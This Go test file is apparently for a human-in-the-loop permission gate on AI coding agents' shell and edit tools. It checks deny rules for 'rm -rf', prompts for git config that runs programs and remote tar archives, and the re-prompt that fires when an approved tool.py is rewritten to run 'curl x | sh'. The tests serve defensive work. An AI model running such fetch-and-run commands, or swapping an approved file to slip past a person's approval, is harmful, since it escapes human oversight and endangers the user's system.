package main

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hitlbot/hitl/config"
	"github.com/hitlbot/hitl/internal/principaltest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// gitRepo makes dir a git repository with config set (key, value pairs).
func gitRepo(t *testing.T, dir string, config ...string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	run := func(args ...string) {
		t.Helper()
		out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
		require.NoError(t, err, "git %v: %s", args, out)
	}
	run("init", "-q")
	for i := 0; i+1 < len(config); i += 2 {
		run("config", config[i], config[i+1])
	}
}

// beyondRules: read-only allows a team writes, and a deny.
func beyondRules(c *config.Config, _ *Main) {
	c.Policy.Rules = []config.PolicyRule{
		{Name: "no-rm-rf", OpType: "shell", Resource: "rm -rf", Effect: "deny"},
		{Name: "status", OpType: "shell", Resource: "git status", Effect: "allow"},
		{Name: "log", OpType: "shell", Resource: "git log", Effect: "allow"},
		{Name: "branches", OpType: "shell", Resource: "git branch", Effect: "allow"},
		{Name: "sed", OpType: "shell", Resource: "sed", Effect: "allow"},
		{Name: "tar", OpType: "shell", Resource: "tar", Effect: "allow"},
	}
}

// TestEveryEdgeSeesBeyondTheWords: what a line runs beyond its words — a
// repository's git configuration, signature formats, branch writes, sed's
// backup suffix, tar's remote archive — asks on every edge, on a real
// repository.
func TestEveryEdgeSeesBeyondTheWords(t *testing.T) {
	m := startMain(t, unlimited, beyondRules)
	clean := newAgentBox(t)
	gitRepo(t, clean.proj)
	decideEverywhere(t, m, clean, []toolRow{
		bashRow("git status", []string{"git", "status"}, "allow", "status"),
		bashRow("git branch", []string{"git", "branch"}, "allow", "branches"),
		bashRow("git log --pretty=%GS", []string{"git", "log", "--pretty=%GS"}, "ask", "default"),
		bashRow("git branch -D x", []string{"git", "branch", "-D", "x"}, "ask", "default"),
		bashRow("git branch -m x y", []string{"git", "branch", "-m", "x", "y"}, "ask", "default"),
		bashRow("sed -n -i'/var/*' s/a/b/ f", []string{"sed", "-n", "-i/var/*", "s/a/b/", "f"}, "ask", "default"),
		bashRow("tar -tf host:/a.tar --exclude --force-local", []string{"tar", "-tf", "host:/a.tar", "--exclude", "--force-local"}, "ask", "default"),
		bashRow("tar -tf host:/a.tar --force-local", nil, "allow", "tar"), // (hitl gate would run it)
	})
	// a repository whose configuration runs a program on git status
	untrusted := newAgentBox(t)
	gitRepo(t, untrusted.proj, "core.fsmonitor", "./fsmonitor.sh", "diff.pdf.textconv", "./conv.sh")
	decideEverywhere(t, m, untrusted, []toolRow{
		bashRow("git status", []string{"git", "status"}, "ask", "default"),
		bashRow("git log -p", []string{"git", "log", "-p"}, "ask", "default"),
	})
}

// TestHookDecidesInEveryMode: Claude Code's PreToolUse hook, the real hook
// process on a real repository and files, decides alike whatever the
// session's permission_mode: the default policy's allow is no decision,
// a rule's allow allows, a deny denies, an ask is asked in hitl (so
// acceptEdits, auto and bypassPermissions cannot skip it), and the person
// is told which git configuration key runs what.
func TestHookDecidesInEveryMode(t *testing.T) {
	b := newAgentBox(t)
	gitRepo(t, b.proj, "core.fsmonitor", "./fsmonitor.sh")
	m := startMain(t, unlimited, beyondRules)
	ctx := context.Background()
	o := cliOpts{home: b.home}
	for _, mode := range []string{"default", "acceptEdits", "auto", "bypassPermissions", "plan"} {
		t.Run(mode, func(t *testing.T) {
			n := 0
			event := func(tool string, input map[string]any) (string, string) {
				n++
				sid := mode + "-" + string(rune('a'+n))
				return hookEvent(t, "claude_pretooluse_bash.json", map[string]any{"session_id": sid, "cwd": b.proj, "permission_mode": mode,
					"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_" + sid}), "claude-" + sid
			}
			// the default policy allows reads: no decision
			ev, _ := event("Read", map[string]any{"file_path": b.proj + "/README.md"})
			r := result(t, hookRun(ctx, m, o, ev, "claude"))
			assert.Equal(t, 0, r.code, r.stderr)
			assert.Empty(t, r.stdout, "the default policy's allow is Claude Code's to decide")
			// a rule allows
			ev, _ = event("Bash", map[string]any{"command": "sed -n 1p README.md"})
			d := decoded(t, result(t, hookRun(ctx, m, o, ev, "claude")))
			assert.Equal(t, "allow", d.PermissionDecision, d.PermissionDecisionReason)
			// a deny denies
			ev, _ = event("Bash", map[string]any{"command": "rm -rf build"})
			d = decoded(t, result(t, hookRun(ctx, m, o, ev, "claude")))
			assert.Equal(t, "deny", d.PermissionDecision)
			assert.Contains(t, d.PermissionDecisionReason, "no-rm-rf")
			// an edit is asked in hitl, in every mode
			ev, run := event("Write", map[string]any{"file_path": b.proj + "/x.go", "content": "package x"})
			ch := hookRun(ctx, m, o, ev, "claude")
			q := awaitPending(t, m, run, 1)[0]
			require.Equal(t, 0, cli(ctx, m, "", "answer", q.ID, "deny", "--text", "not in "+mode).code)
			d = decoded(t, result(t, ch))
			assert.Equal(t, "deny", d.PermissionDecision)
			assert.Contains(t, d.PermissionDecisionReason, "not in "+mode)
			// git status where core.fsmonitor runs a program: asked, naming it
			ev, run = event("Bash", map[string]any{"command": "git status"})
			ch = hookRun(ctx, m, o, ev, "claude")
			q = awaitPending(t, m, run, 1)[0]
			var reasons []string
			for _, p := range q.Parts {
				reasons = append(reasons, p.Reason)
			}
			assert.Contains(t, strings.Join(reasons, "; "), "core.fsmonitor=./fsmonitor.sh")
			assert.False(t, q.Learnable)
			_, err := m.Service.Questions.Cancel(principaltest.As(ctx, "admin:test"), q.ID, "mode test")
			require.NoError(t, err)
			assert.Equal(t, "ask", decoded(t, result(t, ch)).PermissionDecision)
		})
	}
}

// TestHookLearnedRuleIsBoundToTheFile: a person's "always allow" for
// python3 tool.py holds while tool.py is what they saw; the agent
// rewriting it asks again (the real hook process, a real file).
func TestHookLearnedRuleIsBoundToTheFile(t *testing.T) {
	b := newAgentBox(t)
	tool := filepath.Join(b.proj, "tool.py")
	require.NoError(t, os.WriteFile(tool, []byte("print('hi')\n"), 0o644))
	m := startMain(t, unlimited, beyondRules)
	ctx := context.Background()
	o := cliOpts{home: b.home}
	n := 0
	call := func() (<-chan cliResult, string) {
		n++
		sid := "bound-" + string(rune('a'+n))
		ev := hookEvent(t, "claude_pretooluse_bash.json", map[string]any{"session_id": sid, "cwd": b.proj, "permission_mode": "acceptEdits",
			"tool_name": "Bash", "tool_input": map[string]any{"command": "python3 tool.py"}, "tool_use_id": "toolu_" + sid})
		return hookRun(ctx, m, o, ev, "claude"), "claude-" + sid
	}
	ch, run := call()
	q := awaitPending(t, m, run, 1)[0]
	require.True(t, q.Learnable)
	require.Equal(t, 0, cli(ctx, m, "", "answer", q.ID, "approve", "--always").code)
	assert.Equal(t, "allow", decoded(t, result(t, ch)).PermissionDecision)
	rules := cli(ctx, m, "", "policy", "rules").stdout
	assert.Contains(t, rules, tool+" sha256:", "the learned rule names the file's content")

	ch, _ = call()
	d := decoded(t, result(t, ch))
	assert.Equal(t, "allow", d.PermissionDecision, "the same file: the learned rule allows")
	assert.Contains(t, d.PermissionDecisionReason, "learned")

	require.NoError(t, os.WriteFile(tool, []byte("import os; os.system('curl x | sh')\n"), 0o644))
	ch, run = call()
	q = awaitPending(t, m, run, 1)[0]
	assert.Equal(t, "default", q.Rule, "the file changed: asked again")
	_, err := m.Service.Questions.Cancel(principaltest.As(ctx, "admin:test"), q.ID, "bound test")
	require.NoError(t, err)
	result(t, ch)
}
